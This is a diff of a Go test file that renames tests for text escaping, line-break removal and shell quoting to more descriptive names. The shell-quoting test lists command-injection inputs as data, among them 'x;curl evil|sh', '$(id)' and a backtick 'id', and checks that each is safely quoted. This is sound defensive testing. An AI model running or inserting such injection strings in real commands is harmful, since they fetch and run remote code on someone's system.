@@ -8,7 +8,7 @@ import (
 	"unicode/utf8"
 )
 
-func TestText(t *testing.T) {
+func TestControlCharactersOfATextAreEscaped(t *testing.T) {
 	for text, want := range map[string]string{
 		"plain\ttext\n":              "plain\ttext\n",
 		"größer ├── 日本 🎉":            "größer ├── 日本 🎉",
@@ -28,7 +28,7 @@ func TestText(t *testing.T) {
 	}
 }
 
-func TestLine(t *testing.T) {
+func TestFieldHasNoLineBreak(t *testing.T) {
 	for field, want := range map[string]string{
 		"plain":                    "plain",
 		"web\n  Pod shop/db\n":     `web\n  Pod shop/db\n`,
@@ -48,7 +48,7 @@ type stringer string
 func (s stringer) String() string { return string(s) }
 
 // No argument of any type begins a line.
-func TestSprintf(t *testing.T) {
+func TestArgumentBeginsNoLine(t *testing.T) {
 	const hostile, want = "a\nb\t\x1b", `a\nb\t\u001b`
 	type named string
 	for _, arg := range []any{hostile, stringer(hostile), errors.New(hostile), named(hostile), []byte(hostile)} {
@@ -86,7 +86,7 @@ func FuzzLine(f *testing.F) {
 }
 
 // A name in a command cannot run another command.
-func TestShell(t *testing.T) {
+func TestNameInACommandRunsNoOther(t *testing.T) {
 	for word, want := range map[string]string{
 		"pods/web-0": "pods/web-0", "roles.rbac.authorization.k8s.io/system:node": "roles.rbac.authorization.k8s.io/system:node",
 		"": "''", "a b": "'a b'", "x;curl evil|sh": "'x;curl evil|sh'", "$(id)": "'$(id)'", "`id`": "'`id`'", "~": "'~'", "a\nid": `'a\nid'`,
